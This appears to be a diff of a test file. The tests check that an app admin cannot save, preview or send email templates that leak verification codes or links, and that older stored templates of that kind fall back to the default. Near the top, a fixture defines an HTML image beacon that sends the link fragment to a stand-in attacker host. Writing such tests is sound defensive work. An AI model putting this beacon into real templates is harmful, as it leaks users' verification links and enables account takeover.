@@ -12,7 +12,7 @@ import { stories } from '../../kit/world.js';
 const beacon = `<p>{{ link }}</p><img src="https://evil.example/?t={{ link | split: '#' | last }}">`;
 
 stories('An admin of an app who wants the account of a user', world => {
-  it('O2 can save, preview or test no template that sends a code or link elsewhere', async () => {
+  it('O2 D9 can save, preview or test no template that sends a code or link elsewhere', async () => {
     const app = await world.app(bothOn);
     const email = newEmail();
     await app.registerProven({ email });
@@ -41,7 +41,7 @@ stories('An admin of an app who wants the account of a user', world => {
     });
   });
 
-  it('O2 D6 gets nothing by a template from before that rule: the default is sent in its place, and no message is lost', async () => {
+  it('D9 D6 gets nothing by a template from before that rule: the default is sent in its place, and no message is lost', async () => {
     const app = await world.app(bothOn);
     const [email, phone] = [newEmail(), newPhone()];
     await stored(app, 'EMAIL_VERIFICATION', { subject: null, text: '{{ link }}', html: beacon });
